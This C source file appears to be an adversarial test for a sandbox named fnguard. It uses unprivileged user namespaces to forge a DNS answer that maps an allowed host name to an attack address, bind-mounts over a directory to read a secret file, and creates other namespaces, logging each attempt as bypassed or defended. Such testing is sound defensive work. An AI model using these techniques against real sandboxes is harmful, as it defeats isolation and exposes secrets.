/*
 * netns_dns_forge.c - adversarial test for fnguard (class: namespaces the
 * function makes for itself, unprivileged, through user namespaces)
 *
 * fnguard learns which address a host name stands for from DNS answers: a
 * datagram that recvfrom() returns with source 127.0.0.1:53 (a loopback
 * resolver) is taken as an answer.  A function can make a user + network
 * namespace of its own (no privilege needed), where IT owns 127.0.0.1:53, and
 * answer its own query for an allowed name with any address.  The parent,
 * still in the original namespace, then connects to that address as if it
 * were the allowed host.
 *
 * Vectors (each namespace is made in a child; the parent stays where it is):
 *   dns_forge_unshare     child: unshare(CLONE_NEWUSER|CLONE_NEWNET), lo up,
 *                         binds 127.0.0.1:53/udp, sends itself a query for
 *                         allowed.test A and answers "allowed.test A
 *                         <FNG_ATTACK_IP>"; BYPASSED when the asking socket's
 *                         recvfrom() returned that answer from 127.0.0.1:53
 *   dns_forge_clone       the same, the namespaces made by clone(CLONE_NEWUSER|CLONE_NEWNET)
 *   dns_forge_clone3      the same with clone3 (ENOSYS under fnguard: defended)
 *   connect_attack_ip     then the parent, in the original namespace, connects
 *                         to FNG_ATTACK_IP:5531 (1 s timeout) where a listener
 *                         of its own waits; BYPASSED when the connection was
 *                         accepted.  Only tried when FNG_ATTACK_IP is configured
 *                         on a local interface (so nothing leaves the machine);
 *                         otherwise this line is left out and stderr says so.
 *   mntns_bind_unshare    child: unshare(CLONE_NEWUSER|CLONE_NEWNS), bind-mounts
 *                         FNG_TMPDIR over FNG_WORKDIR/mnt and reads
 *                         FNG_WORKDIR/mnt/<secret>; BYPASSED if the secret was read
 *   mntns_bind_clone      the same through clone(CLONE_NEWUSER|CLONE_NEWNS)
 *   mntns_bind_clone3     the same through clone3
 *   utsns_unshare         child: unshare(CLONE_NEWUSER|CLONE_NEWUTS) + sethostname;
 *                         BYPASSED if the host name in the new namespace changed
 *   utsns_clone           the same through clone(CLONE_NEWUSER|CLONE_NEWUTS)
 *   ipcns_unshare, pidns_unshare, cgroupns_unshare, timens_unshare
 *                         unshare(CLONE_NEWUSER|kind); BYPASSED if the namespace
 *                         was made (checked by /proc/self/ns/<kind> changing; for
 *                         pid and time namespaces, in a forked grandchild)
 *
 * Env: FNG_SECRET, FNG_TMPDIR, FNG_WORKDIR; FNG_ATTACK_IP (optional, default
 * 192.0.2.1: connected to only when it is a local address).
 */
#define _GNU_SOURCE
#include "adv.h"

#include <ifaddrs.h>
#include <sched.h>
#include <stdint.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <linux/sched.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef __NR_clone3
#define __NR_clone3 435
#endif

#define ATTACK_PORT 5531

static const char *attack_ip, *secret, *tmpdir, *workdir;
static char mntpoint[4096], secret_via[4200];
static int forged_ok;

/* ------------------------------------------------------------------ making a child in new namespaces */
enum method { M_UNSHARE, M_CLONE, M_CLONE3 };
typedef int (*ns_work)(char *msg, size_t msz);

struct ctx {
	int fd;
	ns_work work;
};

static void send_result(int fd, int kind, const char *msg)
{
	char out[1300];
	int len = snprintf(out, sizeof out, "%d %s", kind, msg);
	if (write(fd, out, (size_t)len) < 0)
		_exit(3);
}

static int child_main(void *arg)
{
	struct ctx *c = arg;
	char msg[1200];
	int k = c->work(msg, sizeof msg);
	send_result(c->fd, k, msg);
	_exit(0);
}

static int dns_work(char *msg, size_t msz);

static void in_new_ns(const char *name, enum method m, int flags, ns_work work)
{
	static char stack[256 * 1024] __attribute__((aligned(16)));
	const char *how = m == M_UNSHARE ? "unshare" : m == M_CLONE ? "clone" : "clone3";
	int p[2];
	if (pipe2(p, O_CLOEXEC) < 0) {
		report(name, ERRORED, "pipe: %s", strerror(errno));
		return;
	}
	struct ctx c = { p[1], work };
	pid_t pid;
	if (m == M_UNSHARE) {
		pid = fork();
		if (pid == 0) {
			close(p[0]);
			if (unshare(flags) < 0) {
				char msg[200];
				int e = errno;
				snprintf(msg, sizeof msg, "setup: unshare: %s", strerror(e));
				send_result(p[1], is_denial(e) ? DEFENDED : ERRORED, msg);
				_exit(0);
			}
			child_main(&c);
		}
	} else if (m == M_CLONE) {
		pid = clone(child_main, stack + sizeof stack, flags | SIGCHLD, &c);
	} else {
		struct clone_args a;
		memset(&a, 0, sizeof a);
		a.flags = (uint64_t)flags;
		a.exit_signal = SIGCHLD;
		pid = (pid_t)syscall(__NR_clone3, &a, sizeof a);
		if (pid == 0) {
			close(p[0]);
			child_main(&c);
		}
	}
	int e = errno;
	close(p[1]);
	if (pid < 0) {
		close(p[0]);
		if (m == M_CLONE3 && e == ENOSYS)
			report(name, DEFENDED, "clone3: %s", strerror(e));
		else
			setup_failed(name, how, e);
		return;
	}
	char buf[1400];
	ssize_t n = read_all(p[0], buf, sizeof buf);
	close(p[0]);
	int st = 0;
	waitpid(pid, &st, 0);
	if (n >= 2 && buf[0] >= '0' && buf[0] <= '2') {
		report(name, buf[0] - '0', "%s: %s", how, buf + 2);
		if (buf[0] - '0' == BYPASSED && work == dns_work)
			forged_ok = 1;
	} else if (WIFSIGNALED(st))
		report(name, DEFENDED, "%s child killed by signal %d", how, WTERMSIG(st));
	else
		report(name, ERRORED, "%s child exited with status %d without a result", how, WEXITSTATUS(st));
}

/* ------------------------------------------------------------------ DNS forgery */
static const unsigned char query[] = "\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
				     "\x07" "allowed" "\x04" "test" "\x00" "\x00\x01\x00\x01";
#define QLEN (sizeof query - 1)

static int dns_work(char *msg, size_t msz)
{
	struct sockaddr_in dns = { .sin_family = AF_INET, .sin_port = htons(53) }, from;
	socklen_t fl = sizeof from;
	unsigned char q[512], ans[512], got[512];
	inet_pton(AF_INET, "127.0.0.1", &dns.sin_addr);

	if (adv_if_up("lo", NULL) < 0) {
		snprintf(msg, msz, "setup: lo up in the new namespace: %s", strerror(errno));
		return is_denial(errno) ? DEFENDED : ERRORED;
	}
	int srv = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), cli = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (srv < 0 || cli < 0 || bind(srv, (struct sockaddr *)&dns, sizeof dns) < 0) {
		int e = errno;
		snprintf(msg, msz, "setup: own resolver on 127.0.0.1:53: %s", strerror(e));
		return is_denial(e) ? DEFENDED : ERRORED;
	}
	struct timeval tv = { 1, 0 };
	setsockopt(srv, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(cli, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (sendto(cli, query, QLEN, 0, (struct sockaddr *)&dns, sizeof dns) < 0) {
		int e = errno;
		snprintf(msg, msz, "setup: query to 127.0.0.1:53: %s", strerror(e));
		return is_denial(e) ? DEFENDED : ERRORED;
	}
	ssize_t n = recvfrom(srv, q, sizeof q, 0, (struct sockaddr *)&from, &fl);
	if (n < (ssize_t)QLEN) {
		snprintf(msg, msz, "setup: own resolver got no query: %s", n < 0 ? strerror(errno) : "short");
		return ERRORED;
	}
	/* answer: the question, then allowed.test A attack_ip */
	memcpy(ans, q, QLEN);
	ans[2] = 0x81, ans[3] = 0x80, ans[7] = 1;	/* QR RD RA, ANCOUNT 1 */
	size_t o = QLEN;
	static const unsigned char rr[] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4 };
	memcpy(ans + o, rr, sizeof rr);
	o += sizeof rr;
	inet_pton(AF_INET, attack_ip, ans + o);
	o += 4;
	if (sendto(srv, ans, o, 0, (struct sockaddr *)&from, fl) < 0) {
		snprintf(msg, msz, "setup: answer: %s", strerror(errno));
		return ERRORED;
	}
	fl = sizeof from;
	memset(&from, 0, sizeof from);
	n = recvfrom(cli, got, sizeof got, 0, (struct sockaddr *)&from, &fl);
	if (n < 0) {
		int e = errno;
		snprintf(msg, msz, "recvfrom of the answer: %s", strerror(e));
		return is_denial(e) ? DEFENDED : ERRORED;
	}
	char src[32], ip[32];
	inet_ntop(AF_INET, &from.sin_addr, src, sizeof src);
	if (n != (ssize_t)o || memcmp(got, ans, o) != 0) {
		snprintf(msg, msz, "the answer received from %s:%d was not the forged one (%zd bytes)", src,
			 ntohs(from.sin_port), n);
		return DEFENDED;
	}
	inet_ntop(AF_INET, got + o - 4, ip, sizeof ip);
	snprintf(msg, msz, "recvfrom() returned \"allowed.test A %s\" from %s:%d, answered by the program's own "
		 "resolver in its own user+network namespace", ip, src, ntohs(from.sin_port));
	return BYPASSED;
}

/* is ip configured on a local interface? */
static int is_local(const char *ip)
{
	struct ifaddrs *ifa, *i;
	struct in_addr want;
	int found = 0;
	if (inet_pton(AF_INET, ip, &want) != 1 || getifaddrs(&ifa) < 0)
		return 0;
	for (i = ifa; i; i = i->ifa_next)
		if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET &&
		    ((struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr == want.s_addr)
			found = 1;
	freeifaddrs(ifa);
	return found;
}

static void vec_connect_attack_ip(void)
{
	const char *name = "connect_attack_ip";
	if (!is_local(attack_ip)) {
		fprintf(stderr, "netns_dns_forge: %s is not a local address: connect_attack_ip not tried\n", attack_ip);
		return;
	}
	int rx = adv_receiver(SOCK_STREAM, attack_ip, ATTACK_PORT);
	if (rx < 0) {
		report(name, ERRORED, "setup: listener on %s:%d: %s", attack_ip, ATTACK_PORT, strerror(errno));
		return;
	}
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(ATTACK_PORT) };
	inet_pton(AF_INET, attack_ip, &a.sin_addr);
	int s, e, r = adv_connect_wait(&a, 1000, &s, &e);
	int got = adv_arrivals(rx, r == 0 ? 500 : 50);
	if (s >= 0)
		close(s);
	close(rx);
	const char *after = forged_ok ? "after the forged answer for allowed.test" : "no forged answer was received";
	if (got > 0)
		report(name, BYPASSED, "connected from the original namespace to %s:%d (%s); %d accepted", attack_ip,
		       ATTACK_PORT, after, got);
	else
		report(name, DEFENDED, "connect to %s:%d: %s (%s); nothing accepted", attack_ip, ATTACK_PORT,
		       r == 0 ? "returned 0" : strerror(e), after);
}

/* ------------------------------------------------------------------ mount namespace */
static int mnt_work(char *msg, size_t msz)
{
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	if (mount(tmpdir, mntpoint, NULL, MS_BIND, NULL) < 0) {
		int e = errno;
		snprintf(msg, msz, "setup: bind mount %s over %s: %s", tmpdir, mntpoint, strerror(e));
		return is_denial(e) ? DEFENDED : ERRORED;
	}
	int fd = open(secret_via, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		snprintf(msg, msz, "bind mount done, open(%s): %s", secret_via, strerror(e));
		return DEFENDED;
	}
	char d[700];
	int k = check_secret_fd(fd, d, sizeof d);
	close(fd);
	snprintf(msg, msz, "bind-mounted the tmp dir over %s, open(%s): %s", mntpoint, secret_via, d);
	return k;
}

/* ------------------------------------------------------------------ uts and other kinds */
static int uts_work(char *msg, size_t msz)
{
	char before[128] = "", after[128] = "";
	gethostname(before, sizeof before);
	if (sethostname("fng-adv-forged", 14) < 0) {
		int e = errno;
		snprintf(msg, msz, "sethostname: %s", strerror(e));
		return DEFENDED;
	}
	gethostname(after, sizeof after);
	snprintf(msg, msz, "new UTS namespace; host name \"%s\" -> \"%s\" (in the namespace only)", before, after);
	return strcmp(before, after) ? BYPASSED : DEFENDED;
}

static char ns_before[64], ns_kind[16];

static int ns_changed(char *msg, size_t msz)
{
	char path[64], now[64] = "";
	snprintf(path, sizeof path, "/proc/self/ns/%s", ns_kind);
	ssize_t n = readlink(path, now, sizeof now - 1);
	if (n < 0) {
		snprintf(msg, msz, "readlink(%s): %s", path, strerror(errno));
		return ERRORED;
	}
	now[n] = 0;
	snprintf(msg, msz, "namespace made: %s was %s, now %s", path, ns_before, now);
	return strcmp(now, ns_before) ? BYPASSED : DEFENDED;
}

/* pid and time namespaces apply to children: look from a forked grandchild */
static int ns_changed_in_child(char *msg, size_t msz)
{
	int p[2];
	if (pipe(p) < 0) {
		snprintf(msg, msz, "pipe: %s", strerror(errno));
		return ERRORED;
	}
	pid_t pid = fork();
	if (pid < 0) {
		snprintf(msg, msz, "setup: fork after unshare: %s", strerror(errno));
		return is_denial(errno) ? DEFENDED : ERRORED;
	}
	if (pid == 0) {
		char m[600];
		int k = ns_changed(m, sizeof m);
		char out[700];
		int len = snprintf(out, sizeof out, "%d%s (the forked child is pid %d in it)", k, m, (int)getpid());
		if (write(p[1], out, (size_t)len) < 0)
			_exit(1);
		_exit(0);
	}
	close(p[1]);
	char buf[800];
	ssize_t n = read_all(p[0], buf, sizeof buf);
	close(p[0]);
	waitpid(pid, NULL, 0);
	if (n < 2) {
		snprintf(msg, msz, "the forked child said nothing");
		return ERRORED;
	}
	snprintf(msg, msz, "%s", buf + 1);
	return buf[0] - '0';
}

static void vec_ns_kind(const char *name, const char *kind, int flag, int in_child)
{
	char path[64];
	snprintf(ns_kind, sizeof ns_kind, "%s", kind);
	snprintf(path, sizeof path, "/proc/self/ns/%s", kind);
	ssize_t n = readlink(path, ns_before, sizeof ns_before - 1);
	if (n < 0) {
		report(name, ERRORED, "setup: readlink(%s): %s", path, strerror(errno));
		return;
	}
	ns_before[n] = 0;
	in_new_ns(name, M_UNSHARE, CLONE_NEWUSER | flag, in_child ? ns_changed_in_child : ns_changed);
}

int main(void)
{
	adv_init();
	secret = need_env("FNG_SECRET");
	tmpdir = need_env("FNG_TMPDIR");
	workdir = need_env("FNG_WORKDIR");
	attack_ip = getenv("FNG_ATTACK_IP");
	if (!attack_ip || !*attack_ip)
		attack_ip = "192.0.2.1";
	struct in_addr tmp;
	if (inet_pton(AF_INET, attack_ip, &tmp) != 1)
		env_error("FNG_ATTACK_IP=%s is not an IPv4 address", attack_ip);
	char tmp_n[4096];
	const char *rel = path_in_dir(secret, tmpdir, tmp_n, sizeof tmp_n);
	if (!rel)
		env_error("FNG_SECRET is not inside FNG_TMPDIR");
	snprintf(mntpoint, sizeof mntpoint, "%s/mnt", workdir);
	snprintf(secret_via, sizeof secret_via, "%s/%s", mntpoint, rel);
	if (mkdir(mntpoint, 0755) < 0 && errno != EEXIST)
		env_error("mkdir(%s): %s", mntpoint, strerror(errno));

	in_new_ns("dns_forge_unshare", M_UNSHARE, CLONE_NEWUSER | CLONE_NEWNET, dns_work);
	in_new_ns("dns_forge_clone", M_CLONE, CLONE_NEWUSER | CLONE_NEWNET, dns_work);
	in_new_ns("dns_forge_clone3", M_CLONE3, CLONE_NEWUSER | CLONE_NEWNET, dns_work);
	vec_connect_attack_ip();
	in_new_ns("mntns_bind_unshare", M_UNSHARE, CLONE_NEWUSER | CLONE_NEWNS, mnt_work);
	in_new_ns("mntns_bind_clone", M_CLONE, CLONE_NEWUSER | CLONE_NEWNS, mnt_work);
	in_new_ns("mntns_bind_clone3", M_CLONE3, CLONE_NEWUSER | CLONE_NEWNS, mnt_work);
	in_new_ns("utsns_unshare", M_UNSHARE, CLONE_NEWUSER | CLONE_NEWUTS, uts_work);
	in_new_ns("utsns_clone", M_CLONE, CLONE_NEWUSER | CLONE_NEWUTS, uts_work);
	vec_ns_kind("ipcns_unshare", "ipc", CLONE_NEWIPC, 0);
	vec_ns_kind("pidns_unshare", "pid", CLONE_NEWPID, 1);
	vec_ns_kind("cgroupns_unshare", "cgroup", CLONE_NEWCGROUP, 0);
	vec_ns_kind("timens_unshare", "time", CLONE_NEWTIME, 1);
	rmdir(mntpoint);
	return adv_exit_status();
}
